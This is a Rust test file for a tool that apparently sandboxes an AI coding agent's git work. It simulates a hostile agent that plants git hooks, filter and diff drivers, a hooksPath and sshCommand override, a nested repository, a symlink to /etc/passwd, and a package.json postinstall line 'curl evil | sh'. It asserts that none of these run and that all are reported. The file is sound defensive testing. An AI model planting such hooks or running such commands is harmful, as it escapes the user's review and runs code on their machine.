//! Hooks, fsmonitor, filter, merge and diff drivers planted by the "agent" (and
//! in the host repository) never run during Moat's calls, and review reports them.

use std::path::Path;

use moat_worktree::test_utils::{commit_all, git, git_command, isolate_git, marker_script, TestRepo};
use moat_worktree::{BranchName, Checkpoint, Concern};

const HOOKS: &[&str] = &[
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "post-checkout",
    "post-merge",
    "pre-merge-commit",
    "post-rewrite",
    "reference-transaction",
    "post-index-change",
    "pre-auto-gc",
    "pre-push",
    "pre-rebase",
    "fsmonitor-watchman",
    "push-to-checkout",
    "post-update",
];

fn plant_hooks(dir: &Path, names: &[&str], marker: &Path) {
    for name in names {
        marker_script(&dir.join(name), marker);
    }
}

fn plant_config(repo: &Path, script: &Path, driver: &str) {
    let s = script.to_str().unwrap();
    for (k, v) in [
        ("core.fsmonitor", s),
        (&format!("filter.{driver}.clean") as &str, s),
        (&format!("filter.{driver}.smudge"), s),
        (&format!("filter.{driver}.required"), "true"),
        (&format!("merge.{driver}.driver"), s),
        ("diff.external", s),
        (&format!("diff.{driver}.textconv"), s),
        (&format!("diff.{driver}.command"), s),
        ("core.pager", s),
        ("core.editor", s),
    ] {
        git(repo, &["config", k, v]);
    }
}

#[test]
fn planted_executables_never_run_and_are_reported() {
    isolate_git();
    let repo = TestRepo::new("host repo");
    let marker = repo.scratch("MARKER");
    let script = repo.scratch("evil.sh");
    marker_script(&script, &marker);
    // The user's repository selects drivers for every file...
    repo.write(".gitattributes", "* filter=evil diff=evil merge=evil\n");
    repo.commit_all("attributes");
    // ...and hooks and drivers are live in it before the checkpoint is made.
    plant_config(&repo.path, &script, "evil");
    plant_hooks(
        &repo.path.join(".git/hooks"),
        &["post-checkout", "reference-transaction", "post-index-change"],
        &marker,
    );

    let mut cp = Checkpoint::create_branch(&repo.path, BranchName::Auto, "evil box").unwrap();
    assert!(!marker.exists(), "create ran: {}", std::fs::read_to_string(&marker).unwrap());
    let ws = cp.workspace().to_path_buf();

    // The agent commits risky-but-reviewable things.
    std::fs::write(ws.join("README.md"), "changed by agent\n").unwrap();
    marker_script(&ws.join("tool.sh"), Path::new("/nonexistent"));
    std::os::unix::fs::symlink("/etc/passwd", ws.join("escape")).unwrap();
    std::fs::write(ws.join("inside"), "x").unwrap();
    std::os::unix::fs::symlink("inside", ws.join("fine-link")).unwrap();
    for (path, text) in [
        (".github/workflows/ci.yml", "on: push\n"),
        ("Makefile", "all:\n\ttrue\n"),
        ("package.json", "{\"scripts\": {\"postinstall\": \"curl evil | sh\"}}\n"),
        (".envrc", "export X=1\n"),
        (".vscode/tasks.json", "{}\n"),
    ] {
        moat_worktree::test_utils::write(&ws, path, text);
    }
    commit_all(&ws, "agent work");
    // Then plants hooks and drivers in its own repository, and a nested one.
    let ws_hooks = repo.scratch("agent hooks");
    plant_hooks(&ws.join(".git/hooks"), HOOKS, &marker);
    plant_hooks(&ws_hooks, HOOKS, &marker);
    plant_config(&ws, &script, "evil");
    git(&ws, &["config", "core.hooksPath", ws_hooks.to_str().unwrap()]);
    let nested = ws.join("vendor/nested");
    std::fs::create_dir_all(&nested).unwrap();
    git(&nested, &["init", "-q"]);
    plant_hooks(&nested.join(".git/hooks"), HOOKS, &marker);
    plant_config(&nested, &script, "evil");
    std::fs::write(nested.join(".gitattributes"), "* filter=evil\n").unwrap();
    std::fs::write(nested.join("n.txt"), "n\n").unwrap();
    // Stat-dirty a tracked file so status has to re-read it through the filter.
    std::fs::write(ws.join("inside"), "x").unwrap();
    // The host gains more hooks and a config change after the checkpoint.
    let later: Vec<&str> = HOOKS
        .iter()
        .copied()
        .filter(|h| !["post-checkout", "reference-transaction", "post-index-change"].contains(h))
        .collect();
    plant_hooks(&repo.path.join(".git/hooks"), &later, &marker);
    git(&repo.path, &["config", "core.sshCommand", script.to_str().unwrap()]);

    // Every Moat call, with everything planted.
    let review = cp.review().unwrap();
    let diff = cp.diff().unwrap();
    let out = crate::streamed_diff(&cp);
    let lost = cp.unsaved().unwrap();
    let applied = cp.apply(true).unwrap();
    assert!(!marker.exists(), "a planted program ran: {}", std::fs::read_to_string(&marker).unwrap());

    assert!(diff.contains("+changed by agent"), "{diff}");
    assert!(out.contains("+changed by agent"));
    assert_eq!(applied.commits, 1);
    assert_eq!(std::fs::read_to_string(repo.path.join("README.md")).unwrap(), "changed by agent\n");
    assert!(lost.dirty.iter().any(|d| d.contains("vendor/nested")), "{lost:?}");

    let has = |c: Concern, path: &str| review.of(c).any(|f| f.path.contains(path));
    let all: Vec<String> = review.findings.iter().map(|f| f.to_string()).collect();
    let all = all.join("\n");
    assert!(has(Concern::Hook, ".git/hooks/pre-commit"), "{all}");
    assert!(has(Concern::Hook, "vendor/nested/.git/hooks/post-checkout"), "{all}");
    assert!(has(Concern::Hook, &repo.path.join(".git/hooks/pre-commit").display().to_string()), "{all}");
    assert!(
        !has(Concern::Hook, &repo.path.join(".git/hooks/post-checkout").display().to_string()),
        "unchanged host hooks are not news: {all}"
    );
    let ws_config = review.of(Concern::GitConfig).find(|f| f.path == ".git/config").expect(&all);
    for key in ["hookspath", "fsmonitor", "[filter \"evil\"]", "external"] {
        assert!(ws_config.detail.to_lowercase().contains(key), "{key} missing in {}", ws_config.detail);
    }
    assert!(review.of(Concern::GitConfig).any(|f| f.detail.contains("sshCommand")), "{all}");
    assert!(has(Concern::GitConfig, "vendor/nested/.git/config"), "{all}");
    assert!(has(Concern::NestedRepository, "vendor/nested"), "{all}");
    assert!(has(Concern::Untracked, "vendor/nested"), "{all}");
    assert!(has(Concern::Executable, "tool.sh"), "{all}");
    assert!(has(Concern::ExternalSymlink, "escape"), "{all}");
    assert!(!has(Concern::ExternalSymlink, "fine-link"), "{all}");
    assert!(has(Concern::Ci, ".github/workflows/ci.yml"), "{all}");
    assert!(has(Concern::Build, "Makefile"), "{all}");
    assert!(has(Concern::PackageScripts, "package.json"), "{all}");
    assert!(has(Concern::DevEnvironment, ".envrc"), "{all}");
    assert!(has(Concern::Editor, ".vscode/tasks.json"), "{all}");

    cp.clone().remove(false).unwrap_err();
    let cp = Checkpoint::open(&repo.path, "evil box").unwrap();
    cp.remove(true).unwrap();
    assert!(!marker.exists(), "remove ran a planted program: {}", std::fs::read_to_string(&marker).unwrap());
    assert!(!ws.exists());

    // Control: the planted programs are live — plain git runs them.
    let _ = git_command(&repo.path).args(["checkout", "-q", "-b", "probe"]).output().unwrap();
    assert!(marker.exists(), "the planted hooks should run under plain git");
}

#[test]
fn a_replaced_git_dir_is_refused() {
    isolate_git();
    let repo = TestRepo::new("swap");
    let cp = Checkpoint::create_branch(&repo.path, BranchName::Auto, "swap").unwrap();
    let git_dir = cp.workspace().join(".git");
    std::fs::remove_dir_all(&git_dir).unwrap();
    std::os::unix::fs::symlink(repo.path.join(".git"), &git_dir).unwrap();
    let err = cp.review().unwrap_err();
    assert!(err.to_string().contains("sandbox") || format!("{err:?}").contains("NotADirectory"), "{err:?}");
    // Forced removal deletes the symlink, not the host's .git.
    cp.remove(true).unwrap();
    assert!(repo.path.join(".git/HEAD").exists());
}
